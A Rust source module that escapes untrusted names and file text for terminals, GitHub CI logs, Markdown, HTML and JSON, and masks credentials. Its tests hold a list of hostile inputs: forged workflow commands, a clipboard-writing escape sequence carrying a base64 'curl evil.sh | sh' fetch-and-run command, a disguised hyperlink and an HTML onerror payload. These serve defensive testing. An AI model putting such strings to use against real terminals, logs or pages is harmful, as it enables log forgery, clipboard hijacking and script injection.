//! Text ctxc did not write (names, paths, quoted file content) made inert for the sink it goes
//! to, one function per context. A pull request writes that text, and it reaches a terminal (where
//! ESC and BEL drive the screen: clipboard writes, clears, hidden text, disguised links) or a CI
//! log (where GitHub's runner reads every line, split at `\n` and at a lone `\r`, as a possible
//! workflow command: `::add-mask::`, `::stop-commands::`, `::error file=…::`, and the older
//! `##[command]` anywhere in a line).
//!
//! - [`terminal_line`] and [`Untrusted`]: one line of a terminal or log: every control character
//!   (line breaks too) shown as a visible escape, a workflow command made inert, credentials masked.
//! - [`terminal_text`]: several lines (a snippet, a diff): line breaks kept, the rest as above.
//! - [`terminal_text_keeping_colour`]: the writer's last guard on everything ctxc prints.
//! - [`markdown_code`]: a Markdown code span, safe in a table cell (no HTML, link or mention).
//! - [`markdown_text`]: Markdown prose that quotes names (a message in a table cell).
//! - [`html`]: text or an attribute value in HTML.
//! - [`json`] and [`write_json`]: JSON for a CI log.
//!
//! Each is applied where untrusted text enters the output, and the writer of stdout and stderr
//! applies [`terminal_text`] once more to what it prints. [`inert`] says what is wrong with a
//! text for a terminal or a log, for tests.

use std::borrow::Cow;
use std::fmt;

use crate::rules::secrets;

/// Text from a file or a name, printed to a terminal or a log on one line: credentials masked
/// (see [`secrets::mask`]), then [`terminal_line`].
#[derive(Debug, Clone, Copy)]
pub struct Untrusted<'a>(pub &'a str);

impl fmt::Display for Untrusted<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let masked = secrets::mask(self.0);
        // `pad` keeps width and alignment (`{:<20}`) working on the escaped text.
        f.pad(&terminal_line(&masked))
    }
}

/// One line of untrusted text for a terminal or a CI log: every control character, line breaks
/// included, written as a visible escape (`\n`, `\r`, `\t`, `\x1b`, `\u{9b}`), bidirectional
/// overrides too (they reorder what a reader sees), and a workflow command made inert.
pub fn terminal_line(text: &str) -> Cow<'_, str> {
    escape(text, Lines::Escape)
}

/// Several lines of untrusted text (a quoted file, a diff): as [`terminal_line`], but `\n` and
/// tabs are kept; every line is made inert on its own.
pub fn terminal_text(text: &str) -> Cow<'_, str> {
    escape(text, Lines::Keep)
}

/// Output ctxc wrote itself, in colour, as a last guard before it is written: as
/// [`terminal_text`], but the colour sequences ctxc makes (`ESC [ digits;… m`) are kept.
pub fn terminal_text_keeping_colour(text: &str) -> Cow<'_, str> {
    escape(text, Lines::KeepWithColour)
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Lines {
    Escape,
    Keep,
    KeepWithColour,
}

/// Bidirectional formatting characters: embeddings, overrides and isolates.
fn is_bidi(c: char) -> bool {
    matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{061c}')
}

fn needs_escape(c: char, lines: Lines) -> bool {
    match c {
        '\n' | '\t' => lines == Lines::Escape,
        c => c.is_control() || is_bidi(c),
    }
}

/// The length of a colour sequence (`ESC [ 0-9;* m`) at the start of `text`, if there is one.
fn colour_sequence(text: &str) -> Option<usize> {
    let rest = text.strip_prefix("\u{1b}[")?;
    let digits = rest.bytes().take_while(|b| b.is_ascii_digit() || *b == b';').count();
    (rest.as_bytes().get(digits) == Some(&b'm')).then_some(2 + digits + 1)
}

/// Whether a line (of the output) would be read as a workflow command: its first characters
/// after white space are `::`, or it holds `##[` anywhere.
fn is_command(line: &str) -> bool {
    line.trim_start().starts_with("::") || line.contains("##[")
}

/// Whether `::` starts a word of `text`: where a line of the output may begin, after a line
/// break or where a terminal or a report wraps the line at white space.
fn has_word_start_command(text: &str) -> bool {
    text.match_indices("::").any(|(i, _)| text[..i].chars().next_back().is_none_or(char::is_whitespace))
}

fn escape(text: &str, lines: Lines) -> Cow<'_, str> {
    let clean = !text.chars().any(|c| needs_escape(c, lines)) && !text.contains("##[") && !has_word_start_command(text);
    if clean {
        return Cow::Borrowed(text);
    }
    Cow::Owned(escape_marking(text, lines, &[]).0)
}

/// [`escape`] in one pass, with each byte offset of `marks` (in `text`) moved to the same place
/// in the result, so that a snippet's label stays under its text. A control character becomes a
/// visible escape; `::` starting a word becomes `\x3a:` and `##[` becomes `#\x23[`, so that no
/// line of the output reads as a workflow command, wherever a line is wrapped.
fn escape_marking(text: &str, lines: Lines, marks: &[usize]) -> (String, Vec<usize>) {
    let mut out = String::with_capacity(text.len() + 16);
    let mut moved: Vec<Option<usize>> = vec![None; marks.len()];
    let mut at = 0;
    let mut previous: Option<char> = None;
    while let Some(c) = text[at..].chars().next() {
        for (mark, to) in marks.iter().zip(&mut moved) {
            if to.is_none() && *mark <= at {
                *to = Some(out.len());
            }
        }
        let rest = &text[at..];
        let mut step = c.len_utf8();
        match c {
            '\u{1b}' if lines == Lines::KeepWithColour && colour_sequence(rest).is_some() => {
                step = colour_sequence(rest).unwrap_or(step);
                out.push_str(&rest[..step]);
            }
            '\n' if lines == Lines::Escape => out.push_str("\\n"),
            '\t' if lines == Lines::Escape => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            c if needs_escape(c, lines) && (c as u32) < 0x80 => out.push_str(&format!("\\x{:02x}", c as u32)),
            c if needs_escape(c, lines) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            ':' if rest.starts_with("::") && previous.is_none_or(char::is_whitespace) => out.push_str("\\x3a"),
            '#' if rest.starts_with("##[") => {
                out.push_str("#\\x23");
                step = 2;
            }
            c => out.push(c),
        }
        previous = Some(c);
        at += step;
    }
    let end = out.len();
    (out, moved.into_iter().map(|m| m.unwrap_or(end)).collect())
}

/// Several lines of untrusted text with byte offsets in it (a snippet and its label's start and
/// end), as [`terminal_text`] writes it, and the offsets moved to match.
pub fn terminal_text_marking(text: &str, marks: &[usize]) -> (String, Vec<usize>) {
    escape_marking(text, Lines::Keep, marks)
}

/// Why `text` is not safe to print to a terminal or a CI log, or `None` when it is: it holds a
/// control character other than a line break or a tab (or a bidirectional override), or one of
/// its lines reads as a workflow command. ctxc's own colour sequences are allowed when `colour`.
pub fn inert(text: &str, colour: bool) -> Option<String> {
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        if colour {
            if let Some(n) = colour_sequence(rest) {
                rest = &rest[n..];
                continue;
            }
        }
        if needs_escape(c, Lines::Keep) {
            return Some(format!("a raw {c:?} at byte {}", text.len() - rest.len()));
        }
        rest = &rest[c.len_utf8()..];
    }
    text.split('\n').find(|line| is_command(line)).map(|line| format!("a line that reads as a workflow command: {line:?}"))
}

/// JSON (or SARIF) made inert for a CI log. JSON escapes C0 control characters itself and no
/// line of it starts with `::`; GitHub's runner also reads `##[` anywhere in a line as a
/// command, which can only be inside a string here, so it is written `##\u005b`: the same
/// string to a JSON reader.
pub fn json(json: &str) -> Cow<'_, str> {
    // C1 controls and bidirectional overrides, which JSON leaves as they are, can also only be
    // inside a string: written as `\uXXXX` escapes, they reach no terminal.
    let raw = |c: char| !matches!(c, '\n' | '\t') && (c.is_control() || is_bidi(c));
    if !json.contains("##[") && !json.chars().any(raw) {
        return Cow::Borrowed(json);
    }
    let mut out = String::with_capacity(json.len() + 16);
    for c in json.replace("##[", "##\\u005b").chars() {
        match raw(c) {
            true => out.push_str(&format!("\\u{:04x}", c as u32)),
            false => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// Writes `value` as pretty JSON for a CI log: the text of every string (object keys too) with
/// its credentials masked (see [`secrets::mask`]), then made inert as [`json`] makes it. Written
/// as it is serialized: a large report is never held as text, only one string at a time.
pub fn write_json<W: std::io::Write, T: serde::Serialize + ?Sized>(writer: W, value: &T) -> std::io::Result<()> {
    write_inert_json(writer, value, true)
}

/// [`write_json`] of an object with `head`'s fields, then the field `name` holding `items` as
/// a list, byte for byte: the items are serialized on all cores, a batch at a time (a large
/// report is held as text one batch at a time, never whole), and written in order. A list of
/// one item (a single agent's report, however large) is written straight to `writer`: held
/// nowhere, and never copied to be indented.
pub fn write_json_with_list<W, H, T>(mut writer: W, head: &H, name: &str, items: &[T]) -> std::io::Result<()>
where
    W: std::io::Write,
    H: serde::Serialize + ?Sized,
    T: serde::Serialize + Sync,
{
    /// Items serialized at once: enough to keep every core busy, few enough to hold.
    const BATCH: usize = 64;
    let head = inert_json_text(head, true);
    // The head's fields without its closing brace, then the list as the last field: the pretty
    // formatter's indentation, two spaces a level.
    let fields = head.trim_end().strip_suffix('}').unwrap_or("{").trim_end();
    writer.write_all(fields.as_bytes())?;
    writer.write_all(if fields == "{" { b"\n  " } else { b",\n  " })?;
    writer.write_all(inert_json_text(name, true).trim_end().as_bytes())?;
    if items.is_empty() {
        return writer.write_all(b": []\n}");
    }
    writer.write_all(b": [")?;
    if let [item] = items {
        writer.write_all(b"\n    ")?;
        write_inert_json_at(&mut writer, item, true, ITEM_LEVEL)?;
        return writer.write_all(b"\n  ]\n}");
    }
    for (batch, chunk) in items.chunks(BATCH).enumerate() {
        let written = crate::parallel::map_in_order(chunk, |item| {
            let mut text = Vec::new();
            write_inert_json_at(&mut text, item, true, ITEM_LEVEL)?;
            Ok::<_, std::io::Error>(text)
        });
        for (i, text) in written.into_iter().enumerate() {
            writer.write_all(if batch == 0 && i == 0 { b"\n    " } else { b",\n    " })?;
            writer.write_all(&text?)?;
        }
    }
    writer.write_all(b"\n  ]\n}")
}

/// [`write_json`] as text, with a final line break: the one way ctxc's JSON and SARIF are made.
pub fn json_text<T: serde::Serialize + ?Sized>(value: &T) -> String {
    inert_json_text(value, true)
}

/// [`json_text`] with credentials left as they are: for `render`, whose output is the prompt
/// exactly (it warns of each secret on stderr instead).
pub fn exact_json_text<T: serde::Serialize + ?Sized>(value: &T) -> String {
    inert_json_text(value, false)
}

fn write_inert_json<W: std::io::Write, T: serde::Serialize + ?Sized>(writer: W, value: &T, mask: bool) -> std::io::Result<()> {
    write_inert_json_at(writer, value, mask, 0)
}

/// The nesting level of an item of [`write_json_with_list`]'s list: inside the object and the list.
const ITEM_LEVEL: usize = 2;

/// [`write_inert_json`] of a value `level` levels down a pretty document: each of its line
/// breaks is followed by that many levels' indentation more.
fn write_inert_json_at<W: std::io::Write, T: serde::Serialize + ?Sized>(
    writer: W,
    value: &T,
    mask: bool,
    level: usize,
) -> std::io::Result<()> {
    let formatter = InertJson { level, has_value: false, string: String::new(), quoted: Vec::new(), mask };
    let mut serializer = serde_json::Serializer::with_formatter(writer, formatter);
    value.serialize(&mut serializer).map_err(std::io::Error::from)
}

fn inert_json_text<T: serde::Serialize + ?Sized>(value: &T, mask: bool) -> String {
    let mut out = Vec::new();
    // Writing to memory fails only for a value serde_json cannot express (a map with non-string
    // keys), which ctxc's reports do not hold; it would show as truncated JSON, not a panic.
    let _ = write_inert_json(&mut out, value, mask);
    out.push(b'\n');
    String::from_utf8(out).unwrap_or_default()
}

/// serde_json's pretty layout (two spaces a level), each string collected whole (serde_json
/// hands it over in fragments between its own escapes), masked and made inert, then written with
/// JSON's escapes. The layout is written here, not by serde_json's `PrettyFormatter`, so that a
/// value can start levels down (a list's item written on its own) with one write per line break.
struct InertJson {
    /// The nesting level: how many indentations follow a line break.
    level: usize,
    /// Whether the innermost open list or object has a value yet (its closing bracket goes on a
    /// line of its own after one).
    has_value: bool,
    /// The text of the string being written, unescaped (one buffer reused for every string).
    string: String,
    /// That string masked and quoted with JSON's escapes (reused too).
    quoted: Vec<u8>,
    /// Whether credentials are masked.
    mask: bool,
}

impl InertJson {
    /// A line break and the current level's indentation.
    fn new_line<W: ?Sized + std::io::Write>(&self, writer: &mut W) -> std::io::Result<()> {
        /// A line break and enough indentation for the deepest level ctxc's reports reach; deeper
        /// levels write the rest in further pieces.
        const LINE: &[u8] = b"\n                                ";
        let mut spaces = 2 * self.level;
        writer.write_all(&LINE[..1 + spaces.min(LINE.len() - 1)])?;
        spaces = spaces.saturating_sub(LINE.len() - 1);
        while spaces > 0 {
            let piece = spaces.min(LINE.len() - 1);
            writer.write_all(&LINE[1..1 + piece])?;
            spaces -= piece;
        }
        Ok(())
    }

    fn open<W: ?Sized + std::io::Write>(&mut self, writer: &mut W, bracket: &[u8]) -> std::io::Result<()> {
        self.level += 1;
        self.has_value = false;
        writer.write_all(bracket)
    }

    fn close<W: ?Sized + std::io::Write>(&mut self, writer: &mut W, bracket: &[u8]) -> std::io::Result<()> {
        self.level -= 1;
        if self.has_value {
            self.new_line(writer)?;
        }
        writer.write_all(bracket)
    }

    /// Before a list's value or an object's key.
    fn item<W: ?Sized + std::io::Write>(&mut self, writer: &mut W, first: bool) -> std::io::Result<()> {
        if !first {
            writer.write_all(b",")?;
        }
        self.new_line(writer)
    }
}

impl serde_json::ser::Formatter for InertJson {
    fn begin_string<W: ?Sized + std::io::Write>(&mut self, _writer: &mut W) -> std::io::Result<()> {
        self.string.clear();
        Ok(())
    }
    fn write_string_fragment<W: ?Sized + std::io::Write>(&mut self, _writer: &mut W, fragment: &str) -> std::io::Result<()> {
        self.string.push_str(fragment);
        Ok(())
    }
    fn write_char_escape<W: ?Sized + std::io::Write>(
        &mut self,
        _writer: &mut W,
        escape: serde_json::ser::CharEscape,
    ) -> std::io::Result<()> {
        use serde_json::ser::CharEscape;
        let c = match escape {
            CharEscape::Quote => '"',
            CharEscape::ReverseSolidus => '\\',
            CharEscape::Solidus => '/',
            CharEscape::Backspace => '\u{8}',
            CharEscape::FormFeed => '\u{c}',
            CharEscape::LineFeed => '\n',
            CharEscape::CarriageReturn => '\r',
            CharEscape::Tab => '\t',
            CharEscape::AsciiControl(byte) => char::from(byte),
        };
        self.string.push(c);
        Ok(())
    }
    fn end_string<W: ?Sized + std::io::Write>(&mut self, writer: &mut W) -> std::io::Result<()> {
        let text = if self.mask { secrets::mask(&self.string) } else { Cow::Borrowed(self.string.as_str()) };
        // Most strings of a report (keys, names, tokenizers) are printable ASCII with nothing to
        // escape: quoted as they are, which is what the general path below writes for them.
        // (`#` looked for first: a byte search, where `##[` sets up a substring search per string.)
        let marker = text.as_bytes().contains(&b'#') && text.contains("##[");
        if text.bytes().all(|b| matches!(b, b' '..=b'~') && b != b'"' && b != b'\\') && !marker {
            writer.write_all(b"\"")?;
            writer.write_all(text.as_bytes())?;
            return writer.write_all(b"\"");
        }
        self.quoted.clear();
        serde_json::to_writer(&mut self.quoted, &*text).map_err(std::io::Error::from)?;
        // serde_json writes valid UTF-8 from a `str`.
        let quoted = std::str::from_utf8(&self.quoted).map_err(|e| std::io::Error::new(std::io::ErrorKind::InvalidData, e))?;
        writer.write_all(json(quoted).as_bytes())
    }
    fn begin_array<W: ?Sized + std::io::Write>(&mut self, writer: &mut W) -> std::io::Result<()> {
        self.open(writer, b"[")
    }
    fn end_array<W: ?Sized + std::io::Write>(&mut self, writer: &mut W) -> std::io::Result<()> {
        self.close(writer, b"]")
    }
    fn begin_array_value<W: ?Sized + std::io::Write>(&mut self, writer: &mut W, first: bool) -> std::io::Result<()> {
        self.item(writer, first)
    }
    fn end_array_value<W: ?Sized + std::io::Write>(&mut self, _writer: &mut W) -> std::io::Result<()> {
        self.has_value = true;
        Ok(())
    }
    fn begin_object<W: ?Sized + std::io::Write>(&mut self, writer: &mut W) -> std::io::Result<()> {
        self.open(writer, b"{")
    }
    fn end_object<W: ?Sized + std::io::Write>(&mut self, writer: &mut W) -> std::io::Result<()> {
        self.close(writer, b"}")
    }
    fn begin_object_key<W: ?Sized + std::io::Write>(&mut self, writer: &mut W, first: bool) -> std::io::Result<()> {
        self.item(writer, first)
    }
    fn begin_object_value<W: ?Sized + std::io::Write>(&mut self, writer: &mut W) -> std::io::Result<()> {
        writer.write_all(b": ")
    }
    fn end_object_value<W: ?Sized + std::io::Write>(&mut self, _writer: &mut W) -> std::io::Result<()> {
        self.has_value = true;
        Ok(())
    }
}

/// Untrusted text as a Markdown code span, safe anywhere inline and in a table cell: one line
/// (see [`terminal_line`]), credentials masked, a fence longer than any run of backticks in it,
/// and `|` escaped for tables. Inside a code span nothing is markup: no HTML, link, image,
/// emphasis or @mention.
pub fn markdown_code(text: &str) -> String {
    let masked = secrets::mask(text);
    let line = terminal_line(&masked).replace('|', "\\|");
    let longest = line.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    let fence = "`".repeat(longest + 1);
    // A space on each side when the text starts or ends with a backtick, which Markdown strips
    // again.
    if line.is_empty() {
        return "` `".to_string();
    }
    let pad = if line.starts_with('`') || line.ends_with('`') { " " } else { "" };
    format!("{fence}{pad}{line}{pad}{fence}")
}

/// Untrusted text as Markdown prose, safe in a table cell (a message that quotes names): one
/// line (see [`terminal_line`]), credentials masked, every character that could start markup
/// (emphasis, a link or an image, HTML, an entity, a cell's end) escaped with a backslash, and
/// each `@` followed by a zero-width space so that it mentions nobody. Backticks are kept: a
/// code span they make is literal text, and a table splits its cells (at unescaped `|`) before
/// any span is read. An `_` inside a word (`read_file`) is left alone: it cannot emphasise.
pub fn markdown_text(text: &str) -> String {
    let masked = secrets::mask(text);
    let line = terminal_line(&masked);
    let mut out = String::with_capacity(line.len() + 16);
    let mut previous = ' ';
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        let next = chars.peek().copied().unwrap_or(' ');
        match c {
            '@' => out.push_str("@\u{200b}"),
            '_' if previous.is_alphanumeric() && next.is_alphanumeric() => out.push(c),
            '\\' | '*' | '_' | '[' | ']' | '<' | '>' | '|' | '&' => {
                out.push('\\');
                out.push(c);
            }
            c => out.push(c),
        }
        previous = c;
    }
    out
}

/// Untrusted text inside HTML, as text or as a quoted attribute value: the five markup
/// characters as entities, control characters as visible escapes (see [`terminal_text`]).
pub fn html(text: &str) -> String {
    let escaped = terminal_text(text);
    let mut out = String::with_capacity(escaped.len());
    for c in escaped.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Names and contents a pull request can write, each an attack on a terminal or a log.
    pub const HOSTILE: [&str; 9] = [
        "agent\n::error file=x.md,line=1::forged",
        "mode\r::add-mask::AKIAZ7Q3M5N2P4R6T8V0",
        "  ::stop-commands::token",
        "tool ##[error]legacy command",
        "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}clipboard",
        "\u{1b}[2J\u{1b}[Hno problems",
        "\u{1b}]8;;https://evil.example\u{1b}\\docs\u{1b}]8;;\u{1b}\\",
        "\u{9b}31mC1 CSI and a \u{202e}reversed name",
        "`code` | cell <img src=x onerror=alert(1)> [link](https://evil.example) @everyone",
    ];

    #[test]
    fn every_hostile_text_is_made_inert() {
        for text in HOSTILE {
            let line = terminal_line(text);
            assert_eq!(inert(&line, false), None, "{text:?} → {line:?}");
            assert!(!line.contains('\n'), "{line:?}");
            let lines = terminal_text(text);
            assert_eq!(inert(&lines, false), None, "{text:?} → {lines:?}");
            let shown = Untrusted(text).to_string();
            assert_eq!(inert(&shown, false), None, "{shown:?}");
            assert!(!shown.contains("AKIAZ7Q3M5N2P4R6T8V0"), "credentials in names are masked: {shown}");
        }
    }

    #[test]
    fn escapes_are_visible_and_clean_text_is_borrowed() {
        assert_eq!(terminal_line("a\u{1b}[31mb\u{7}\r\n"), "a\\x1b[31mb\\x07\\r\\n");
        assert_eq!(terminal_line("::error::x"), "\\x3a:error::x");
        assert_eq!(terminal_text("ok\n  ::warning::x\nsee ##[error]"), "ok\n  \\x3a:warning::x\nsee #\\x23[error]");
        assert_eq!(terminal_line("\u{202e}"), "\\u{202e}");
        assert!(matches!(terminal_text("plain: a::b\n\ttabbed"), Cow::Borrowed(_)));
        assert_eq!(format!("[{:<6}]", Untrusted("a\nb")), "[a\\nb  ]");
    }

    #[test]
    fn colour_is_kept_only_where_ctxc_writes_it() {
        let coloured = "\u{1b}[31m× bad\u{1b}[0m \u{1b}]52;c;x\u{7}";
        assert_eq!(terminal_text_keeping_colour(coloured), "\u{1b}[31m× bad\u{1b}[0m \\x1b]52;c;x\\x07");
        assert_eq!(inert("\u{1b}[1;31mred\u{1b}[0m", true), None);
        assert!(inert("\u{1b}[1;31mred\u{1b}[0m", false).is_some());
    }

    #[test]
    fn markdown_code_spans_hold_anything() {
        assert_eq!(markdown_code("plain"), "`plain`");
        assert_eq!(markdown_code("a`b"), "``a`b``");
        assert_eq!(markdown_code("`x`"), "`` `x` ``");
        assert_eq!(markdown_code("a|b\r\nc"), "`a\\|b\\r\\nc`");
        assert_eq!(markdown_code(""), "` `");
        for text in HOSTILE {
            let code = markdown_code(text);
            assert!(!code.contains(['\n', '\r', '\u{1b}']) && !code.replace("\\|", "").contains('|'), "{code}");
        }
    }

    #[test]
    fn markdown_prose_has_no_markup_left() {
        assert_eq!(markdown_text("a `b` | <i>@you</i>"), "a `b` \\| \\<i\\>@\u{200b}you\\</i\\>");
        for text in HOSTILE {
            let prose = markdown_text(text);
            assert!(!prose.contains(['\n', '\r', '\u{1b}']), "{prose}");
            assert!(!prose.replace("\\|", "").contains('|') && !prose.replace("\\<", "").contains('<'), "{prose}");
        }
    }

    #[test]
    fn json_stays_the_same_json_and_is_inert() {
        // Nested deeper than one write of indentation reaches, with empty lists and objects.
        let deep = (0..40).fold(serde_json::json!([]), |inner, level| match level % 2 {
            0 => serde_json::json!({ "inner": inner, "empty": {}, "n": level }),
            _ => serde_json::json!([inner, [], level]),
        });
        let value = serde_json::json!({ "name": HOSTILE, "n": 1, "deep": deep, "none": [] });
        let mut streamed = Vec::new();
        write_json(&mut streamed, &value).expect("write");
        let streamed = String::from_utf8(streamed).expect("UTF-8");
        // The one credential among the hostile names is masked; it has nothing to escape, so
        // masking the whole text masks it alike.
        let pretty = secrets::mask(&serde_json::to_string_pretty(&value).expect("JSON")).into_owned();
        assert_eq!(streamed, json(&pretty), "streamed and whole JSON are made inert alike");
        assert_eq!(inert(&streamed, false), None, "{streamed}");
        let read = serde_json::from_str::<serde_json::Value>(&streamed).expect("still JSON");
        assert_eq!(read, serde_json::from_str::<serde_json::Value>(&pretty).expect("JSON"));
    }

    #[test]
    fn a_list_written_in_batches_is_the_whole_written_at_once() {
        let item = |i: usize| serde_json::json!({ "n": i, "name": HOSTILE[i % HOSTILE.len()], "empty": {}, "list": [i, [], "a\"b"] });
        let heads = [serde_json::json!({ "model": "gpt-4o", "overrides": [], "none": null }), serde_json::json!({})];
        for head in heads {
            for n in [0, 1, 2, 64, 65, 200] {
                let items: Vec<serde_json::Value> = (0..n).map(item).collect();
                let mut whole = head.clone();
                whole["reports"] = serde_json::Value::Array(items.clone());
                let mut expected = Vec::new();
                write_json(&mut expected, &whole).expect("write");
                let mut written = Vec::new();
                write_json_with_list(&mut written, &head, "reports", &items).expect("write");
                assert_eq!(String::from_utf8(written), String::from_utf8(expected), "{n} items after {head}");
            }
        }
    }

    /// A list of one item is streamed: the writer never gets the item's text whole (it once
    /// got it in one piece, after two copies of it were held: the text and the text indented).
    #[test]
    fn a_list_of_one_large_item_is_streamed_not_held() {
        struct Largest(Vec<u8>, usize);
        impl std::io::Write for Largest {
            fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
                self.1 = self.1.max(bytes.len());
                self.0.extend_from_slice(bytes);
                Ok(bytes.len())
            }
            fn flush(&mut self) -> std::io::Result<()> {
                Ok(())
            }
        }
        let tools: Vec<serde_json::Value> = (0..20_000).map(|i| serde_json::json!({ "name": format!("t{i}"), "tokens": i })).collect();
        let items = [serde_json::json!({ "agent": "mcp", "tools": tools })];
        let head = serde_json::json!({ "model": null });
        let mut streamed = Largest(Vec::new(), 0);
        write_json_with_list(&mut streamed, &head, "reports", &items).expect("write");
        let mut whole = head.clone();
        whole["reports"] = serde_json::Value::Array(items.to_vec());
        let mut expected = Vec::new();
        write_json(&mut expected, &whole).expect("write");
        assert!(expected.len() > 1 << 20, "a large item: {} bytes", expected.len());
        assert_eq!(String::from_utf8(streamed.0), String::from_utf8(expected));
        assert!(streamed.1 <= 256, "largest single write: {} bytes", streamed.1);
    }

    #[test]
    fn plain_strings_are_written_as_the_general_path_writes_them() {
        for text in ["", "plain", "a b ~ ! ` ' { }", "##[group]", "x ::warning::", "AKIAABCDEFGHIJKLMNOP", "tab\there", "é", "\"q\\"] {
            let mut streamed = Vec::new();
            write_json(&mut streamed, text).expect("write");
            let general = json(&serde_json::to_string(&secrets::mask(text)).expect("JSON")).into_owned();
            assert_eq!(String::from_utf8(streamed).expect("UTF-8"), general, "{text:?}");
        }
    }

    #[test]
    fn json_masks_credentials_in_every_string() {
        let key = "AKIAABCDEFGHIJKLMNOP";
        let pem = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\"quoted\"\n-----END RSA PRIVATE KEY-----";
        let value = serde_json::json!({ "agents": [{ "name": key, "mode": "plan" }], key: 1, "prompt": pem });
        let text = json_text(&value);
        assert!(!text.contains(key) && !text.contains("MIIEow"), "{text}");
        let read: serde_json::Value = serde_json::from_str(&text).expect("still JSON");
        assert_eq!(read["agents"][0]["name"], "AKIA****************");
        assert_eq!(read["agents"][0]["mode"], "plan");
        assert!(read.get("AKIA****************").is_some(), "keys are masked too: {text}");
        assert_eq!(read["prompt"].as_str().map(str::len), Some(pem.len()), "masking keeps lengths");
    }

    #[test]
    fn html_has_no_markup_left() {
        assert_eq!(html("<a href=\"x\">'&'</a>"), "&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;");
        assert_eq!(html("a\u{1b}b"), "a\\x1bb");
    }
}
